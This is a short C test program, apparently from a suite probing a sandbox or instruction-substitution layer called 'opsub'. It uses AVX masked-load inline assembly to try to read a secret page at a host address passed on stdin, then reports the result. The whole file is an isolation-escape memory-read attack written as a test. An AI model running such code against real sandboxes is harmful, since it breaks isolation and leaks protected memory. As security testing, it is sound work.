// Attack: read host memory with AVX masked loads (vpmaskmovq, vmaskmovps),
// whose memory operand is the host address, all lanes enabled.
// Natively: reads the secret page.
// Under opsub: the operand gets a 32-bit address size.
// variants: vpmaskmovq vmaskmovps
// stdin: hostaddr
#include "attack.h"

int main(int argc, char **argv)
{
	int ps = !strcmp(variant(argc, argv), "vmaskmovps");
	get_targets();
	uint64_t out[4] = {0};
	if (ps)
		__asm__ volatile("vpcmpeqd %%ymm1, %%ymm1, %%ymm1\n vmaskmovps (%1), %%ymm1, %%ymm0\n"
		                 "vmovdqu %%ymm0, (%0)\n vzeroupper" : : "r"(out), "r"(T.data) : "memory", "xmm0", "xmm1");
	else
		__asm__ volatile("vpcmpeqq %%ymm1, %%ymm1, %%ymm1\n vpmaskmovq (%1), %%ymm1, %%ymm0\n"
		                 "vmovdqu %%ymm0, (%0)\n vzeroupper" : : "r"(out), "r"(T.data) : "memory", "xmm0", "xmm1");
	report_read(ps ? "vmaskmovps" : "vpmaskmovq", out, sizeof(out));
	return 0;
}
